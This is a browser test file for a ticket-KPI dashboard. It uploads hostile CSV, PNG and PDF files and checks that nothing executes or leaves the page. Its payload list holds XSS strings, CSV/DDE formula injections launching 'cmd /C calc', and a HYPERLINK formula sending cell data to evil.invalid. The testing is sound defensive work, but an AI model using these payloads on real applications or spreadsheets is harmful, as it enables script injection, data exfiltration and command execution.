// The page under abuse (issue 8): hostile and broken files, generated here,
// go through the file input of the real page. For each one: no dialog opens,
// no element is made from cell content (a MutationObserver watches the whole
// document from before the page's first script), no script from a cell runs
// (the payloads set a global; it stays unset), the Content-Security-Policy
// reports nothing, no request leaves the page (and none at all once it has
// loaded), the file gets a clear message or listed issues, and the page
// still works afterwards: the sample exports then give the CLI's numbers.
// Also: 500 small files at once, the CSV exports neutralise formulas, and a
// file too big for the engine's memory gives a clear message and a fresh engine.
import { test, before, after } from "node:test";
import assert from "node:assert/strict";
import { execFileSync } from "node:child_process";
import { mkdtempSync, readFileSync, writeFileSync } from "node:fs";
import { tmpdir } from "node:os";
import { join } from "node:path";
import { deflateSync, crc32 } from "node:zlib";
import {
  start, openPage, hashFor, settled, reportsShown, cliReport, shownNumbers, expectedNumbers, compareNumbers,
  sampleFiles, cspViolations, repoRoot,
} from "./helpers.mjs";

let env;
before(async () => { env = await start(); });
after(async () => { await env?.stop(); });

const sample = sampleFiles();
const sampleConfig = JSON.parse(readFileSync(sample.config, "utf8"));
const dir = mkdtempSync(join(tmpdir(), "cxkpi-abuse-"));

// Each payload, if it ever became markup or code, would set window.__pwned.
const PAYLOADS = [
  `<img src=x onerror="window.__pwned='img'">`,
  `</script><script>window.__pwned='script'</script>`,
  `<svg onload="window.__pwned='svg'"><circle r=1></svg>`,
  `<a href="javascript:window.__pwned='link'">open</a>`,
  `"><iframe srcdoc="<script>parent.__pwned='iframe'</script>">`,
  `<style>@import 'http://evil.invalid/x.css'</style><b onmouseover="window.__pwned='b'">x</b>`,
  `=HYPERLINK("http://evil.invalid/?q="&A1,"click")`,
  `+cmd|' /C calc'!A0`,
  `-2+3+cmd|' /C calc'!A0`,
  `@SUM(1+1)*cmd|' /C calc'!A0`,
  `\tleading tab`,
  `\rleading carriage return`,
];
const TICKET_HEADER = "id,created_at,first_response_at,solved_at,status,channel,agent,team,priority,customer_id,tags";
const quote = (s) => `"${String(s).replaceAll('"', '""')}"`;
const day = (i) => `2026-03-${String(1 + (i % 28)).padStart(2, "0")} 10:00`;

/** A PNG of one pixel (a real image, signature and CRCs right). */
function png() {
  const chunk = (type, data) => {
    const len = Buffer.alloc(4);
    len.writeUInt32BE(data.length);
    const body = Buffer.concat([Buffer.from(type, "latin1"), data]);
    const crc = Buffer.alloc(4);
    crc.writeUInt32BE(crc32(body));
    return Buffer.concat([len, body, crc]);
  };
  const ihdr = Buffer.from([0, 0, 0, 1, 0, 0, 0, 1, 8, 2, 0, 0, 0]);
  return Buffer.concat([Buffer.from("89504e470d0a1a0a", "hex"), chunk("IHDR", ihdr), chunk("IDAT", deflateSync(Buffer.from([0, 255, 0, 0]))), chunk("IEND", Buffer.alloc(0))]);
}

/** A one-page PDF with a line of text. */
const pdf = () => Buffer.from("%PDF-1.4\n1 0 obj <</Type /Catalog /Pages 2 0 R>> endobj\n2 0 obj <</Type /Pages /Kids [3 0 R] /Count 1>> endobj\n3 0 obj <</Type /Page /Parent 2 0 R /MediaBox [0 0 200 200]>> endobj\ntrailer <</Root 1 0 R>>\n%%EOF\n", "latin1");

/**
 * The hostile files: name → {bytes, expect}. `expect.status` is the file row's
 * status; `expect.message` what its alert must say (failed files);
 * `expect.issues` that problems are listed; `expect.rows` the rows read.
 */
function hostileFiles() {
  const files = {};
  // Markup and formulas in every string column, in a timestamp column (so they show up as issues) and in a header.
  const xss = [TICKET_HEADER + `,${quote(PAYLOADS[0])}`];
  PAYLOADS.forEach((p, i) => {
    const v = quote(p);
    xss.push([`x${i}`, day(i), v, "", v, v, v, v, v, v, v, v].join(","));
  });
  files["xss.csv"] = { bytes: xss.join("\n") + "\n", expect: { status: "done", rows: PAYLOADS.length, issues: true, shown: PAYLOADS[0] } };

  const rtl = ["\u202Egnp.exe", "\u200B\u200B\u200B", "\uFEFFAgent\u200D", "مرحبا بالعالم", "\u2067עברית\u2069", "A\u0301\u0301\u0301"];
  files["rtl.csv"] = {
    bytes: [TICKET_HEADER + ",\u200Bnote\u202E", ...rtl.map((s, i) => [`r${i}`, day(i), "", "", "open", "chat", quote(s), quote(s), "low", "C1", quote(s), quote(s)].join(","))].join("\r\n"),
    expect: { status: "done", rows: rtl.length, shown: "مرحبا بالعالم" },
  };
  files["big-cell.csv"] = {
    bytes: `${TICKET_HEADER}\n1,${day(1)},,,open,chat,${"A".repeat(1 << 20)},T,low,C1,tag\n2,${day(2)},${"9".repeat(1 << 20)},,open,chat,Bo,T,low,C2,tag\n`,
    expect: { status: "done", rows: 2, issues: true },
  };
  const wide = ["id", "created_at", ...Array.from({ length: 9998 }, (_, i) => `extra_${i}`)];
  files["wide.csv"] = {
    bytes: [wide.join(","), ["1", day(1), ...Array.from({ length: 9998 }, (_, i) => String(i))].join(",")].join("\n") + "\n",
    expect: { status: "done", rows: 1 },
  };
  files["blank-lines.csv"] = {
    bytes: `${TICKET_HEADER}\n1,${day(1)},,,open,chat,Anna,T,low,C1,tag\n${"\n".repeat(1_000_000)}2,${day(2)},,,open,chat,Bo,T,low,C2,tag\n`,
    expect: { status: "done", rows: 2 },
  };
  files["deep-quotes.csv"] = {
    bytes: `${TICKET_HEADER}\n1,${day(1)},,,open,chat,"${'""'.repeat(200_000)}",T,low,C1,tag\n2,"${day(2)}""",,,open,chat,Bo,T,low,C2,tag\n3,${day(3)},,,open,chat,"unclosed\n${"4,x,,,,,,,,,\n".repeat(20_000)}`,
    expect: { status: "done", issues: true },
  };
  const bad = Buffer.from([0xff, 0xfe, 0xc3, 0x28, 0xe2, 0x82, 0xed, 0xa0, 0x80, 0xf8, 0x88]);
  files["invalid-utf8.csv"] = {
    bytes: Buffer.concat([Buffer.from(`${TICKET_HEADER}\n1,${day(1)},,,open,chat,`), bad, Buffer.from(`,T,low,C1,tag\n2,`), bad, Buffer.from(`,,,open,chat,Bo,T,low,C2,tag\n3,${day(3)},,,open,chat,Cy,T,low,C3,tag\n`)]),
    expect: { status: "done" },
  };
  files["nul.csv"] = {
    bytes: Buffer.from(`${TICKET_HEADER}\n1,${day(1)},,,open,chat,An\0na,T,low,C1,tag\n`),
    expect: { status: "failed", message: /not text|NUL|binary/i },
  };
  files["header-only.csv"] = { bytes: TICKET_HEADER + "\n", expect: { status: "failed", message: /header-only\.csv/ } };
  files["screenshot.png"] = { bytes: png(), expect: { status: "failed", message: /PNG|image|not text/i } };
  files["tickets.csv"] = { bytes: png(), expect: { status: "failed", message: /PNG|image|not text/i } }; // a PNG by another name
  files["report.pdf"] = { bytes: pdf(), expect: { status: "failed", message: /PDF/ } };
  for (const [name, f] of Object.entries(files)) writeFileSync(join(dir, name), f.bytes);
  return files;
}

/** Log every element or attribute that could run code, made after the page's own markup is parsed. */
function watchForMarkup() {
  window.__dangerous = [];
  const bad = (el) => {
    if (!(el instanceof Element)) return null;
    const tag = el.localName;
    if (["script", "iframe", "object", "embed", "img", "svg", "style", "frame", "base", "meta", "link"].includes(tag)) return tag;
    for (const a of el.attributes) {
      if (a.name.startsWith("on")) return `${tag}[${a.name}]`;
      if (/^\s*javascript:/i.test(a.value)) return `${tag}[${a.name}=${a.value}]`;
    }
    return null;
  };
  const check = (node) => {
    const what = bad(node);
    if (what) window.__dangerous.push(what);
    if (node instanceof Element) for (const child of node.querySelectorAll("*")) { const w = bad(child); if (w) window.__dangerous.push(w); }
  };
  const observer = new MutationObserver((records) => {
    for (const r of records) {
      if (r.type === "attributes") {
        const what = bad(r.target);
        if (what) window.__dangerous.push(what);
      }
      for (const n of r.addedNodes) check(n);
    }
  });
  document.addEventListener("DOMContentLoaded", () => observer.observe(document, { subtree: true, childList: true, attributes: true }));
}

/**
 * Open the page (with the sample's settings by default), the watcher, and a
 * dialog log. `prepare(context)` runs before the page opens.
 */
async function hostilePage(config = sampleConfig, prepare = async () => {}) {
  const context = await env.browser.newContext({ locale: "en-GB", viewport: { width: 1440, height: 1000 }, acceptDownloads: true });
  await prepare(context);
  await context.addInitScript(watchForMarkup);
  const opened = await openPage(env, { hash: await hashFor("en", config), context });
  opened.dialogs = [];
  opened.page.on("dialog", (d) => { opened.dialogs.push(d.message()); d.dismiss().catch(() => {}); });
  opened.loadedAt = Date.now();
  return opened;
}

async function addFiles(page, paths) {
  const n = await reportsShown(page);
  await page.setInputFiles("input[type=file][multiple]", paths);
  await settled(page, n);
}

/**
 * Nothing ran, nothing was made from cell content, nothing left the page.
 * `restarted`: a fresh worker was started, so its own scripts (URLs the page
 * loaded before) may be fetched again; nothing else. (The wasm is not: the
 * page compiled it once and gives the same module to every worker.)
 */
async function assertClean(opened, label, { restarted = false } = {}) {
  const { page, requests, dialogs } = opened;
  assert.deepEqual(dialogs, [], `${label}: no dialog`);
  assert.equal(await page.evaluate(() => window.__pwned ?? null), null, `${label}: no payload ran`);
  assert.deepEqual(await page.evaluate(() => window.__dangerous), [], `${label}: no element or handler from cell content`);
  assert.equal(await page.locator(".cx-app img, .cx-app svg, .cx-app iframe, .cx-app script, .cx-app style").count(), 0, `${label}: no markup in the app`);
  assert.deepEqual(await cspViolations(page), [], `${label}: the CSP blocked nothing (nothing tried)`);
  const origin = new URL(env.server.url).origin;
  for (const r of requests) assert.equal(new URL(r.url).origin, origin, `${label}: request to ${r.url}`);
  const early = new Set(requests.filter((r) => r.time <= opened.loadedAt).map((r) => r.url));
  const late = requests.filter((r) => r.time > opened.loadedAt).map((r) => r.url);
  if (restarted) {
    assert.ok(late.some((u) => u.endsWith("/lib/worker.js")), `${label}: a fresh worker was started`);
    assert.deepEqual(late.filter((u) => !early.has(u)), [], `${label}: after load, only the engine's own files again`);
  } else {
    assert.deepEqual(late, [], `${label}: requests after load`);
  }
}

/** A small CSV reader for the exports (RFC 4180: quotes doubled, CRLF rows). */
function parseCsv(text) {
  const rows = [[]];
  let cell = "", quoted = false;
  for (let i = 0; i < text.length; i++) {
    const c = text[i];
    if (quoted) {
      if (c === '"' && text[i + 1] === '"') { cell += '"'; i++; } else if (c === '"') quoted = false; else cell += c;
    } else if (c === '"') quoted = true;
    else if (c === ",") { rows.at(-1).push(cell); cell = ""; }
    else if (c === "\r" && text[i + 1] === "\n") { rows.at(-1).push(cell); cell = ""; rows.push([]); i++; }
    else cell += c;
  }
  if (cell || rows.at(-1).length) rows.at(-1).push(cell);
  else rows.pop();
  return rows;
}

/** Every cell of an exported CSV that a spreadsheet would run as a formula. */
function formulaCells(csv) {
  return parseCsv(csv.replace(/^\ufeff/, "")).flat().filter((c) => /^[=+\-@\t\r]/.test(c) && !Number.isFinite(Number(c)));
}

const files = hostileFiles();
let expectedSample = null;

for (const [name, { expect }] of Object.entries(files)) {
  test(`hostile file ${name}: a clear outcome, nothing runs or leaves, the page goes on`, async (t) => {
    const opened = await hostilePage();
    const { page, ctx, errors } = opened;
    const t0 = Date.now();
    await addFiles(page, join(dir, name));
    const readMs = Date.now() - t0;
    const row = page.locator(`.cx-file[data-file="${name}"]`);
    assert.equal(await row.getAttribute("data-status"), expect.status, `${name}: status (read in ${readMs} ms)`);
    const said = expect.status === "failed" ? await row.locator("[role=alert]").textContent() : `${await row.locator("[data-rows]").getAttribute("data-rows")} rows, ${await page.getAttribute("[data-issues]", "data-issues")} issues`;
    t.diagnostic(`${name} (${readMs} ms): ${said.slice(0, 300)}`);
    if (expect.message) assert.match(said, expect.message);
    if (expect.status === "failed") assert.ok((await row.locator("[role=alert]").textContent()).length > 10, "the message says something");
    if (expect.rows !== undefined) assert.equal(await row.locator("[data-rows]").getAttribute("data-rows"), String(expect.rows));
    if (expect.issues) assert.ok(Number(await page.getAttribute("[data-issues]", "data-issues")) > 0, `${name}: problems are listed`);
    if (expect.shown) assert.ok(await page.getByText(expect.shown, { exact: true }).count() > 0, `${name}: cell content is shown, as text`);
    await assertClean(opened, name);

    if (name === "xss.csv") {
      for (const button of ["All metrics (CSV)", "Download list (CSV)"]) {
        const [download] = await Promise.all([page.waitForEvent("download"), page.getByRole("button", { name: button }).first().click()]);
        const csv = readFileSync(await download.path(), "utf8");
        assert.ok(csv.includes("HYPERLINK"), `${button}: the payloads are in the export`);
        assert.deepEqual(formulaCells(csv), [], `${button}: no cell a spreadsheet would run`);
      }
    }

    // The page still works: drop the bad file, load the sample, see the CLI's numbers.
    await row.locator(".cx-file-remove").click();
    await addFiles(page, sample.files);
    await page.waitForFunction((k) => document.querySelectorAll('.cx-file[data-status="done"]').length === k, sample.files.length);
    expectedSample ??= cliReport(sampleConfig, sample.files);
    compareNumbers(assert, await shownNumbers(page), await expectedNumbers(page, expectedSample, "en-GB"), `sample after ${name}`);
    await assertClean(opened, `${name}, then the sample`);
    assert.deepEqual(errors, [], `${name}: no page error`);
    await ctx.close();
  });
}

test("500 small files at once: every one is read, every row counted", async (t) => {
  const many = mkdtempSync(join(tmpdir(), "cxkpi-many-"));
  const paths = [];
  for (let f = 0; f < 500; f++) {
    const rows = [TICKET_HEADER];
    for (let r = 0; r < 3; r++) rows.push([`f${f}-${r}`, day(f + r), "", "", "open", ["chat", "email"][r % 2], `Agent ${f % 7}`, "T", "low", `C${f}`, "tag"].join(","));
    paths.push(join(many, `tickets-${String(f).padStart(3, "0")}.csv`));
    writeFileSync(paths.at(-1), rows.join("\n") + "\n");
  }
  const config = { time_zone: "UTC", period: { start: "2026-03-01", end: "2026-04-01" }, group_by: ["agent"] };
  const opened = await hostilePage(config);
  const { page, ctx, errors } = opened;
  const t0 = Date.now();
  await addFiles(page, paths);
  await page.waitForFunction(() => document.querySelectorAll('.cx-file[data-status="done"]').length === 500, null, { timeout: 120_000 });
  const ms = Date.now() - t0;
  assert.equal(await page.locator('.cx-file[data-status="failed"]').count(), 0);
  assert.equal(await page.textContent('[data-metric="tickets.created"][data-scope="table"]'), "1,500");
  const report = cliReport(config, paths);
  compareNumbers(assert, await shownNumbers(page), await expectedNumbers(page, report, "en-GB"), "500 files");
  await assertClean(opened, "500 files");
  assert.deepEqual(errors, []);
  writeFileSync(join(dir, "many-files-timing.txt"), `500 files: ${ms} ms\n`);
  t.diagnostic(`500 small files: file input to dashboard ${ms} ms`);
  await ctx.close();
});

// Put before the page's worker: grows the worker's wasm memory, once it is
// instantiated, to all but 32 MiB of what the browser allows (65,536 pages of
// 64 KiB on wasm32, or fewer): room for the sample, not for the 132 MB file
// below (the engine holds about 0.4× a tickets CSV: 54 MB). Its allocations then
// fail for real: Rust aborts and the instance traps, as it would on a file of
// gigabytes. Only the first worker gets it; the fresh one after the trap is
// the page's own.
const FILL_MEMORY = `
for (const name of ["instantiateStreaming", "instantiate"]) {
  const original = WebAssembly[name];
  WebAssembly[name] = async (...args) => {
    const result = await original.apply(WebAssembly, args);
    const memory = (result.instance ?? result).exports?.memory;
    if (memory) {
      for (let pages = 65536 - memory.buffer.byteLength / 65536 - 512; pages > 0; pages -= 512) {
        try { memory.grow(pages); break; } catch {}
      }
    }
    return result;
  };
}
`;

test("a file too big for the engine's memory: a clear message, a fresh engine, the other files kept", async () => {
  const big = join(dir, "tickets-big.csv");
  execFileSync(process.execPath, [join(repoRoot, "benches", "gen-tickets.mjs"), "1000000", big]);
  let filled = 0;
  const opened = await hostilePage(sampleConfig, (context) => context.route("**/lib/worker.js", async (route) => {
    const original = await route.fetch();
    filled++;
    await route.fulfill({ response: original, body: FILL_MEMORY + (await original.text()) });
  }, { times: 1 }));
  const { page, ctx, errors } = opened;
  assert.equal(filled, 1, "the first worker got the memory filler");

  await addFiles(page, sample.files);
  await page.waitForFunction((k) => document.querySelectorAll('.cx-file[data-status="done"]').length === k, sample.files.length);
  expectedSample ??= cliReport(sampleConfig, sample.files);
  const before = await shownNumbers(page);

  await addFiles(page, big);
  const row = page.locator('.cx-file[data-file="tickets-big.csv"]');
  await page.waitForFunction(() => document.querySelector('.cx-file[data-file="tickets-big.csv"]')?.dataset.status === "failed", null, { timeout: 60_000 });
  const alert = row.locator("[role=alert]");
  assert.equal(await alert.getAttribute("data-code"), "out_of_memory");
  assert.match(await alert.textContent(), /did not fit in the memory the browser gives the KPI engine/);
  await settled(page, 0);
  // The fresh engine read the sample again: the same numbers as before, and the CLI's.
  assert.equal(await page.locator('.cx-file[data-status="done"]').count(), sample.files.length);
  assert.deepEqual(await shownNumbers(page), before);
  compareNumbers(assert, await shownNumbers(page), await expectedNumbers(page, expectedSample, "en-GB"), "sample after the trap");

  // The message follows the language; and the fresh engine reads new files.
  await page.selectOption("#cx-lang", "sv");
  await page.waitForFunction(() => /minne/.test(document.querySelector('.cx-file[data-file="tickets-big.csv"] [role=alert]')?.textContent));
  await row.locator(".cx-file-remove").click();
  const small = join(dir, "tickets-small.csv");
  execFileSync(process.execPath, [join(repoRoot, "benches", "gen-tickets.mjs"), "2000", small]);
  await addFiles(page, small);
  assert.equal(await page.getAttribute('.cx-file[data-file="tickets-small.csv"] [data-rows]', "data-rows"), "2000");
  await assertClean(opened, "out of memory", { restarted: true });
  assert.deepEqual(errors, []);
  await ctx.close();
});
